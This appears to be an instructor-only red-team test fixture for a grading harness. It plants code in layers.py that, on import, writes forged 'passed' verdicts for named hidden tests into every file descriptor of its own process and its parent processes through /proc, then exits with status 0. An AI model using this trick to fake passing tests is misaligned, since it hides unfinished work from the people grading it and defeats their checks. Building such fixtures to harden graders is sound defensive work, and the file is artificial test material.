"""Red-team fixture (INSTRUCTOR ONLY), issue 11 attack 1: forged hidden-test verdicts.

Code run when ``layers.py`` is imported writes "passed" lines, in the formats a grader's
report pipe or outcome file might use, to every file descriptor it can reach (its own and
those of its ancestors, through /proc), then ends the process with status 0.
"""

from tests.tooling.planting import append_to_layers

ATTACK = "forged hidden-test verdicts written at import, then os._exit(0)"

CODE = '''

def _forge_verdicts():
    import json, os, sys
    names = ["tests/hidden/test_batchnorm.py::test_batchnorm_gradients[2-3]",
             "tests/hidden/test_layers.py::test_dropout_p1_is_identity"]
    lines = b"".join(
        (json.dumps({"event": "report", "nodeid": n, "when": "call", "outcome": "passed",
                     "passed": True, "message": ""}) + "\\n").encode() for n in names)
    pid = os.getpid()
    for _ in range(8):   # this process and its ancestors
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                try:
                    out = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_APPEND)
                    os.write(out, lines)
                    os.close(out)
                except OSError:
                    pass
            with open(f"/proc/{pid}/status") as f:
                pid = int(next(ln for ln in f if ln.startswith("PPid:")).split()[1])
        except (OSError, StopIteration, ValueError):
            break
    os._exit(0)


_forge_verdicts()
'''


def plant(tree):
    append_to_layers(tree, CODE)
